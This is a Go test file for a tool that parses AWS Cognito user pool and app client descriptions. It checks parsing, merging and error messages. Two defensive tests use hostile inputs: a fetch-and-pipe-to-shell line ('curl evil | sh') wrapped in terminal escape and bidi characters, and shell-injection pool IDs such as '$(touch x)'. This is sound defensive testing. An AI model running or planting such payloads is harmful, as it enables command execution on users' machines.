package describe_test

import (
	"encoding/json"
	"os"
	"path/filepath"
	"reflect"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/poolguard/poolguard/userpool/internal/describe"
	"github.com/poolguard/poolguard/userpool/internal/directory"
)

func fixture(t testing.TB, names ...string) string {
	t.Helper()
	var all strings.Builder
	for _, name := range names {
		b, err := os.ReadFile(filepath.Join("testdata", name))
		if err != nil {
			t.Fatal(err)
		}
		all.Write(b)
	}
	return all.String()
}

func read(t *testing.T, text, name string) describe.Import {
	t.Helper()
	in, err := describe.Read(strings.NewReader(text), name)
	if err != nil {
		t.Fatal(err)
	}
	return in
}

func TestImport(t *testing.T) {
	t.Parallel()
	// In any order, in one source or several.
	got, err := describe.Merge(read(t, fixture(t, "web.json"), "web.json"), read(t, fixture(t, "machine.json", "pool.json"), "rest.json"))
	if err != nil {
		t.Fatal(err)
	}
	if len(got.Pools) != 1 || len(got.Clients) != 2 {
		t.Fatalf("%+v", got)
	}
	pool := got.Pools[0]
	settings := pool.Settings
	pool.Settings = nil
	if want := (directory.Pool{
		ID: "eu-west-1_Ab3dEf6hI", Name: "shop-production", CreatedAt: time.Date(2024, 5, 1, 10, 0, 0, 123e6, time.UTC),
		ModifiedAt:         time.Date(2025, 11, 3, 7, 15, 30, 250e6, time.UTC),
		Password:           directory.PasswordPolicy{MinimumLength: 12, RequireUppercase: true, RequireLowercase: true, RequireNumbers: true, TemporaryDays: 3},
		UsernameAttributes: []string{"email"}, AutoVerifiedAttributes: []string{"email"}, MFA: "OPTIONAL",
		Custom: []string{"custom:tenant", "custom:credit"}, DeletionProtection: true,
	}); !reflect.DeepEqual(pool, want) {
		t.Errorf("pool %+v\nwant %+v", pool, want)
	}
	for _, name := range []string{"LambdaConfig", "EmailConfiguration", "AccountRecoverySetting", "UserPoolTags", "SignInPolicy"} {
		if settings[name] == nil {
			t.Errorf("%s is lost", name)
		}
	}
	web := got.Clients[0]
	web.Settings = nil
	if want := (directory.Client{
		ID: "4k2n6q8s0u1w3y5a7c9e1g3i5k", PoolID: pool.ID, Name: "shop-web",
		CreatedAt: time.Date(2024, 5, 1, 10, 5, 0, 500e6, time.UTC), ModifiedAt: time.Date(2025, 10, 17, 3, 15, 29, 983e6, time.UTC),
		OAuthFlows: []string{"code"}, Scopes: []string{"openid", "email", "orders/read", "https://api.example.com/v1/write"},
		CallbackURLs: []string{"https://shop.example.com/callback", "http://localhost:3000/callback"},
		SignOutURLs:  []string{"https://shop.example.com/"}, DefaultRedirectURI: "https://shop.example.com/callback",
		Providers: []string{"COGNITO", "Google", "CorpLogin"}, AuthFlows: []string{"ALLOW_USER_AUTH", "ALLOW_USER_SRP_AUTH"},
		HideUnknownUsers: true, AccessValidity: 30 * time.Minute, IDValidity: 30 * time.Minute, RefreshValidity: 14 * 24 * time.Hour,
		ChallengeValidity: 5 * time.Minute, Rotation: true, RotationGrace: 10 * time.Second,
		ReadAttributes: []string{"email", "email_verified", "custom:tenant"}, WriteAttributes: []string{"email"},
	}); !reflect.DeepEqual(web, want) {
		t.Errorf("client %+v\nwant   %+v", web, want)
	}
	machine := got.Clients[1]
	if string(machine.Secret) != "1examplesecret2examplesecret3examplesecret4exampleab" || machine.AccessValidity != time.Hour ||
		!machine.CreatedAt.Equal(time.Date(2024, 5, 1, 10, 5, 0, 500e6, time.UTC)) {
		t.Errorf("%+v", machine)
	}
	if want := []directory.ResourceServer{
		{PoolID: pool.ID, Identifier: "orders", Name: "orders", Scopes: []directory.ResourceScope{{Name: "read", Description: "read"}, {Name: "write", Description: "write"}}},
		{PoolID: pool.ID, Identifier: "https://api.example.com/v1", Name: "https://api.example.com/v1", Scopes: []directory.ResourceScope{{Name: "write", Description: "write"}}},
	}; !reflect.DeepEqual(got.ResourceServers, want) {
		t.Errorf("resource servers %+v", got.ResourceServers)
	}
	if want := []directory.Provider{{PoolID: pool.ID, Name: "Google", Type: "Google"}, {PoolID: pool.ID, Name: "CorpLogin", Type: "OIDC"}}; !reflect.DeepEqual(got.Providers, want) {
		t.Errorf("providers %+v", got.Providers)
	}
	if want := map[string][]string{pool.ID: {"shop-production", "auth.example.com"}}; !reflect.DeepEqual(got.Domains, want) {
		t.Errorf("domains %v", got.Domains)
	}
}

// Attack: names in a described pool write lines of their own into an error, or change what
// a terminal shows.
func TestNamesInErrorsCannotWriteLines(t *testing.T) {
	t.Parallel()
	const hostile = `x\u001b[2J\n  curl evil | sh\u202e\u2066`
	for name, text := range map[string]string{
		"document":         `{"` + hostile + `":{}}`,
		"pool ID":          `{"UserPool":{"Id":"` + hostile + `","Name":"x"}}`,
		"pool twice":       strings.Repeat(`{"UserPool":{"Id":"`+hostile+`","Name":"x"}}`, 2),
		"member twice":     `{"UserPool":{"Id":"eu-west-1_Ab3dEf6hI","` + hostile + `":1,"` + hostile + `":1}}`,
		"inner twice":      `{"UserPool":{"Id":"eu-west-1_Ab3dEf6hI","` + hostile + `":{"` + hostile + `":1,"` + hostile + `":1}}}`,
		"client ID":        `{"UserPoolClient":{"ClientId":"` + hostile + `","UserPoolId":"eu-west-1_Ab3dEf6hI"}}`,
		"client's pool":    `{"UserPoolClient":{"ClientId":"abc","UserPoolId":"` + hostile + `"}}`,
		"client twice":     strings.Repeat(`{"UserPoolClient":{"ClientId":"`+hostile+`","UserPoolId":"eu-west-1_Ab3dEf6hI"}}`, 2),
		"not JSON":         `{"` + hostile + `"`,
		"text":             "x\x1b[2J\n  curl evil | sh",
		"unit":             `{"UserPoolClient":{"ClientId":"abc","UserPoolId":"eu-west-1_Ab3dEf6hI","TokenValidityUnits":{"IdToken":"` + hostile + `"}}}`,
		"settings":         `{"UserPool":{"Id":"eu-west-1_Ab3dEf6hI","Name":"` + hostile + `","MfaConfiguration":"` + hostile + `","Domain":"` + hostile + `"}}`,
		"client's scopes":  fixture(t, "pool.json") + `{"UserPoolClient":{"ClientId":"abc","ClientName":"` + hostile + `","UserPoolId":"eu-west-1_Ab3dEf6hI","AllowedOAuthFlows":["` + hostile + `"],"AllowedOAuthScopes":["` + hostile + `"],"CallbackURLs":["` + hostile + `","javascript:` + hostile + `"]}}`,
		"client's members": fixture(t, "pool.json") + `{"UserPoolClient":{"ClientId":"` + hostile + `","UserPoolId":"eu-west-1_Ab3dEf6hI","SupportedIdentityProviders":["` + hostile + `"],"ReadAttributes":["` + hostile + `"],"ExplicitAuthFlows":["` + hostile + `"]}}`,
	} {
		in, err := describe.Read(strings.NewReader(text), "hostile.json")
		if err == nil {
			_, err = describe.Merge(in)
		}
		if err == nil {
			t.Errorf("%s: no error", name)
			continue
		}
		for line := range strings.SplitSeq(err.Error(), "\n") {
			if !strings.HasPrefix(line, "hostile.json: ") {
				t.Errorf("%s: the line %q is not the error's own", name, line)
			}
			if strings.ContainsFunc(line, func(r rune) bool { return !strconv.IsPrint(r) }) {
				t.Errorf("%s: %q has characters that a terminal obeys or does not show", name, line)
			}
		}
	}
}

// What the AWS CLI printed comes back as it was, but for what only AWS knows.
func TestDescribeAgain(t *testing.T) {
	t.Parallel()
	in, err := describe.Merge(read(t, fixture(t, "pool.json", "web.json", "machine.json"), "all.json"))
	if err != nil {
		t.Fatal(err)
	}
	for name, again := range map[string]any{
		"pool.json":    map[string]any{"UserPool": describe.OfPool(in.Pools[0])},
		"web.json":     map[string]any{"UserPoolClient": describe.OfClient(in.Clients[0])},
		"machine.json": map[string]any{"UserPoolClient": describe.OfClient(in.Clients[1])},
	} {
		b, err := json.Marshal(again)
		if err != nil {
			t.Fatal(err)
		}
		var got, want map[string]map[string]any
		if err := json.Unmarshal(b, &got); err != nil {
			t.Fatal(err)
		}
		if err := json.Unmarshal([]byte(fixture(t, name)), &want); err != nil {
			t.Fatal(err)
		}
		for wrapper, members := range want {
			for _, dates := range []string{"CreationDate", "LastModifiedDate"} {
				if _, ok := got[wrapper][dates].(float64); !ok {
					t.Errorf("%s: %s is %v", name, dates, got[wrapper][dates])
				}
				delete(members, dates)
			}
			for _, known := range []string{"Arn", "EstimatedNumberOfUsers", "Domain", "CustomDomain", "SchemaAttributes"} {
				delete(members, known)
			}
			for member, value := range members {
				if !reflect.DeepEqual(got[wrapper][member], value) {
					t.Errorf("%s: %s is %v, was %v", name, member, got[wrapper][member], value)
				}
			}
		}
		if pool, ok := got["UserPool"]; ok && len(pool["SchemaAttributes"].([]any)) != 20+3 {
			t.Errorf("schema %v", pool["SchemaAttributes"])
		}
	}
}

// Faults of what is read name the source, the place, and what to do.
func TestReadErrors(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct{ name, text, want string }{
		{"empty", " \n", "x.json: is empty: save what `aws cognito-idp describe-user-pool "},
		{"YAML", "UserPool:\n  Id: eu-west-1_A\n", `x.json: is not a JSON object, it begins with "UserPool:": save what`},
		{"array", `[{"UserPool":{}}]`, `x.json: is not a JSON object, it begins with "[{`},
		{"UTF-16", "\xff\xfe{\x00}\x00", "x.json: is UTF-16, as PowerShell's > writes it: save it as UTF-8"},
		{"not UTF-8", "{\"UserPool\":\"\xe4\"}", "x.json: is not UTF-8"},
		{"cut off", `{"UserPool": {"Id": "eu-we`, "x.json: is incomplete, or is not JSON ("},
		{"second", `{"UserPool":{"Id":"eu-west-1_A"}} {"UserPoolClient":`, "x.json: document 2: is incomplete, or is not JSON ("},
		{"second is no object", `{"UserPool":{"Id":"eu-west-1_A"}} []`, "x.json: document 2: is a JSON array, not an object: save what"},
		{"list of pools", `{"UserPools":[{"Id":"eu-west-1_A"}]}`, "x.json: is a list of user pools without their settings: describe each with `aws cognito-idp describe-user-pool`"},
		{"list of clients", `{"UserPoolClients":[]}`, "x.json: is a list of app clients without"},
		{"query", `{"Id":"eu-west-1_A"}`, "x.json: is a user pool without the UserPool around it: leave --query out"},
		{"client query", `{"ClientId":"a","UserPoolId":"eu-west-1_A"}`, "x.json: is an app client without the UserPoolClient around it: leave --query out"},
		{"others", `{"User":{},"Group":{}}`, "x.json: has neither UserPool nor UserPoolClient, but Group, User: save what"},
		{"both", `{"UserPool":{},"UserPoolClient":{}}`, "x.json: has both UserPool and UserPoolClient"},
		{"no ID", `{"UserPool":{"Name":"a"}}`, "x.json: UserPool.Id: is missing"},
		{"null", `{"UserPool":null}`, "x.json: UserPool.Id: is missing"},
		{"no client ID", `{"UserPoolClient":{"UserPoolId":"eu-west-1_A"}}`, "x.json: UserPoolClient.ClientId: is missing"},
		{"no pool ID", `{"UserPoolClient":{"ClientId":"a"}}`, "x.json: UserPoolClient.UserPoolId: is missing"},
		{"type", `{"UserPoolClient":{"ClientId":"a","CallbackURLs":"https://a.example/"}}`, "x.json: UserPoolClient.CallbackURLs: cannot be a JSON string: take the file as the AWS CLI printed it"},
		{"nested type", `{"UserPool":{"Id":"a","Policies":{"PasswordPolicy":{"MinimumLength":"8"}}}}`, "x.json: UserPool.Policies.PasswordPolicy.MinimumLength: cannot be a JSON string"},
		{"setting", `{"UserPool":{"Id":"a","AccountRecoverySetting":{"RecoveryMechanisms":[{"Priority":"1"}]}}}`, "x.json: UserPool.AccountRecoverySetting.RecoveryMechanisms[0].Priority: cannot be a JSON string: take"},
		{"tag", `{"UserPool":{"Id":"a","UserPoolTags":{"team":1}}}`, "x.json: UserPool.UserPoolTags.team: cannot be a JSON number: take"},
		{"policy", `{"UserPool":{"Id":"a","Policies":{"SignInPolicy":1}}}`, "x.json: UserPool.Policies.SignInPolicy: cannot be a JSON number: take"},
		{"invitation", `{"UserPool":{"Id":"a","AdminCreateUserConfig":{"InviteMessageTemplate":[]}}}`, "x.json: UserPool.AdminCreateUserConfig.InviteMessageTemplate: cannot be a JSON array: take"},
		{"factor", `{"UserPool":{"Id":"a","EmailMfaConfiguration":1}}`, "x.json: UserPool.EmailMfaConfiguration: cannot be a JSON number: take"},
		{"client setting", `{"UserPoolClient":{"ClientId":"a","UserPoolId":"b","AnalyticsConfiguration":1}}`, "x.json: UserPoolClient.AnalyticsConfiguration: cannot be a JSON number: take"},
		{"long number", `{"UserPool":{"Id":` + strings.Repeat("9", 200_000) + `}}`, "x.json: UserPool.Id: cannot be a JSON number: take"},
		{"member twice", `{"UserPool":{"Id":"a","Policies":{"PasswordPolicy":{"MinimumLength":8,"MinimumLength":9}}}}`, "x.json: UserPool.Policies.PasswordPolicy.MinimumLength: occurs twice: keep one"},
		{"pool twice", `{"UserPool":{"Id":"a"},"UserPool":{"Id":"a"}}`, "x.json: UserPool: occurs twice: keep one"},
		{"twice in a later document", `{"UserPool":{"Id":"a"}}{"UserPoolClient":{"ClientId":"a","CallbackURLs":[],"CallbackURLs":[]}}`, "x.json: document 2: UserPoolClient.CallbackURLs: occurs twice"},
		{"twice in what nobody knows", `{"UserPool":{"Id":"a","New":[{"a":1,"a":1}]}}`, "x.json: UserPool.New[0].a: occurs twice"},
		{"case", `{"UserPool":{"id":"a"}}`, "x.json: UserPool.Id: is missing"},
		{"half a character", `{"UserPool":{"Id":"\ud800"}}`, "x.json: is incomplete, or is not JSON ("},
		{"date object", `{"UserPool":{"Id":"a","CreationDate":{}}}`, "x.json: UserPool.CreationDate: cannot be a JSON object"},
		{"date", `{"UserPool":{"Id":"a","CreationDate":"yesterday"}}`, `x.json: UserPool.CreationDate: "yesterday" is not a time such as`},
		{"date number", `{"UserPool":{"Id":"a","CreationDate":-1}}`, `x.json: UserPool.CreationDate: -1 is not a time in seconds`},
		{"unit", `{"UserPoolClient":{"ClientId":"a","UserPoolId":"eu-west-1_A","TokenValidityUnits":{"AccessToken":"weeks"}}}`, `x.json: UserPoolClient.TokenValidityUnits.AccessToken: "weeks" is not one of seconds, minutes, hours, days`},
		{"twice", `{"UserPool":{"Id":"a"}}{"UserPool":{"Id":"a"}}`, "x.json: document 2: pool a is also described by x.json: UserPool: keep one"},
		{"large", `{"a":"` + strings.Repeat("a", 16<<20) + `"}`, "x.json: has more than 16777216 bytes"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			_, err := describe.Read(strings.NewReader(tc.text), "x.json")
			if err == nil || !strings.HasPrefix(err.Error(), tc.want) || len(err.Error()) > 1024 {
				t.Errorf("%v\nwant %s", err, tc.want)
			}
		})
	}
}

func TestByteOrderMark(t *testing.T) {
	t.Parallel()
	if in := read(t, "\ufeff"+fixture(t, "pool.json"), "pool.json"); len(in.Pools) != 1 {
		t.Errorf("%+v", in)
	}
}

// Attack: a description from someone else gives its reader a command to paste.
func TestUntrustedPoolIDIsNotInACommandToPaste(t *testing.T) {
	t.Parallel()
	for _, id := range []string{
		"us-east-1_A$(touch x)", "us-east-1_A;touch x", "us-east-1_A`touch x`", "us-east-1_A\ntouch x", "us-east-1_A --profile x", "-x", "us-east-1_" + strings.Repeat("A", 60),
	} {
		text, err := json.Marshal(map[string]any{"UserPoolClient": map[string]string{"ClientId": "a", "UserPoolId": id}})
		if err != nil {
			t.Fatal(err)
		}
		_, err = describe.Merge(read(t, string(text), "x.json"))
		if err == nil || strings.Contains(err.Error(), "--user-pool-id") || !strings.HasPrefix(err.Error(), "x.json: UserPoolClient.UserPoolId: ") || strings.Contains(err.Error(), "\n") {
			t.Errorf("%q: %v", id, err)
		}
	}
}

func TestMergeErrors(t *testing.T) {
	t.Parallel()
	pool, web := fixture(t, "pool.json"), fixture(t, "web.json")
	for _, tc := range []struct {
		name  string
		texts []string
		want  []string // the lines' beginnings
	}{
		{"nothing", nil, []string{"nothing is described: save what"}},
		{"pool alone", []string{pool}, nil},
		{"client alone", []string{web}, []string{
			"0.json: UserPoolClient.UserPoolId: the app client 4k2n6q8s0u1w3y5a7c9e1g3i5k belongs to the pool eu-west-1_Ab3dEf6hI, which is not described: add what `aws cognito-idp describe-user-pool --user-pool-id eu-west-1_Ab3dEf6hI` prints",
		}},
		{"of another pool", []string{pool, strings.ReplaceAll(web, "Ab3dEf6hI", "Other")}, []string{"1.json: UserPoolClient.UserPoolId: the app client"}},
		{"twice", []string{pool, pool, web, web}, []string{
			"1.json: UserPool: pool eu-west-1_Ab3dEf6hI is also described by 0.json: UserPool: keep one",
			"3.json: UserPoolClient: client 4k2n6q8s0u1w3y5a7c9e1g3i5k is also described by 2.json: UserPoolClient: keep one",
		}},
		{"rules", []string{
			strings.Replace(pool, `"MinimumLength": 12`, `"MinimumLength": 4`, 1),
			strings.NewReplacer("https://shop.example.com/callback", "http://shop.example.com/callback", "orders/read", "orders", "minutes", "days").Replace(web),
		}, []string{
			"0.json: UserPool.Policies.PasswordPolicy.MinimumLength: 4 is not from 6 to 99",
			`1.json: UserPoolClient.AllowedOAuthScopes[2]: "orders" is neither`,
			`1.json: UserPoolClient.CallbackURLs[0]: "http://shop.example.com/callback": plain http is for`,
			"1.json: UserPoolClient.AccessTokenValidity: 720h0m0s is not in whole seconds from",
			"1.json: UserPoolClient.IdTokenValidity: 720h0m0s",
		}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			var parts []describe.Import
			for i, text := range tc.texts {
				parts = append(parts, read(t, text, string(rune('0'+i))+".json"))
			}
			_, err := describe.Merge(parts...)
			var lines []string
			if err != nil {
				lines = strings.Split(err.Error(), "\n")
			}
			if len(lines) != len(tc.want) {
				t.Fatalf("%v\nwant %q", err, tc.want)
			}
			for i, want := range tc.want {
				if !strings.HasPrefix(lines[i], want) {
					t.Errorf("%s\nwant %s", lines[i], want)
				}
			}
		})
	}
}
